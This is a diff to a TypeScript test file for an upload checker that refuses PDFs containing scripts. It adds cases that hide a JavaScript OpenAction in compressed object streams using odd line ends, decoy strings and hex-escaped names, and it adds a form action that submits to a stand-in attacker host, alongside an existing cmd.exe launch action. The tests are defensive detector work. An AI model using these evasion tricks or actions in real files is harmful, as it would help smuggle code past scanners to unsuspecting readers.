@@ -1,3 +1,4 @@
+import { deflateSync } from "node:zlib";
 import { beforeEach, expect, test } from "vitest";
 import { makeDataDir } from "../uploads/make-upload.ts";
 import { libraryFile, makeMp3, makePdf, writeReceived } from "./make-file.ts";
@@ -48,11 +49,34 @@ test("the pages of a paper are counted, those too that stand packed", async () =
   expect(await read("pdf", packed)).toMatchObject({ pages: 12 });
 });
 
+const SCRIPT = deflateSync("6 0 <</OpenAction <</S/JavaScript/JS(x)>>>>").toString("latin1");
+/** A stream of objects with a script in it, behind whatever hides it. */
+const hidden = (dictionary: string, begins = "\n", before = "") =>
+  `${before}6 0 obj\n<<${dictionary}/N 1/First 4/Filter/FlateDecode>>\nstream${begins}${SCRIPT}\nendstream\nendobj`;
+
+test.each([
+  ["behind a CR alone", hidden("/Type/ObjStm", "\r")],
+  ["behind blanks", hidden("/Type/ObjStm", " \t\r\n")],
+  ["in a stream without its name", hidden("")],
+  ["behind a string that names an object", hidden("/Type/ObjStm/X (obj)")],
+  ["behind a string that looks like a stream", hidden("/Type/ObjStm", "\n", "7 0 obj\n(stream\n)\nendobj\n")],
+  ["among what looks like a stream", "7 0 obj\n(stream\n)\n<</S /J#61vaScript>>\nendobj"],
+])("a paper that hides a script %s is refused", async (_how, more) => {
+  expect(await refusal("pdf", makePdf({ more }))).toMatch(/^This (PDF holds a script|is no PDF that is whole)/);
+});
+
+test.each(["\r", "\r\n"])("a paper read in pieces, one of which ends after a CR, hides nothing: %j", async (begins) => {
+  const padded = (length: number) => makePdf({ more: hidden("/Type/ObjStm", begins, `%${"x".repeat(length)}\n`) });
+  const bytes = padded(1024 * 1024 - padded(0).lastIndexOf(`stream${begins}`) - "stream\r".length);
+  expect(await refusal("pdf", bytes)).toMatch(/^This PDF holds a script/);
+});
+
 test.each([
   ["plainly", { more: "6 0 obj\n<</S /JavaScript /JS (app.alert(1))>>\nendobj" }],
   ["with letters as numbers", { more: "6 0 obj\n<</S /J#61vaScr#69pt>>\nendobj" }],
   ["packed", { packed: "6 0 <</OpenAction <</S/JavaScript/JS(x)>>>>" }],
   ["as a program to start", { more: "6 0 obj\n<</S /Launch /F (cmd.exe)>>\nendobj" }],
+  ["as a form that sends", { more: "6 0 obj\n<</S /SubmitForm /F (https://evil.example)>>\nendobj" }],
   ["as a file inside", { more: "6 0 obj\n<</Names <</EmbeddedFiles 7 0 R>>>>\nendobj" }],
 ])("a paper that holds a script %s is refused", async (_how, parts) => {
   expect(await refusal("pdf", makePdf(parts))).toMatch(/^This PDF holds a script or another file inside it/);
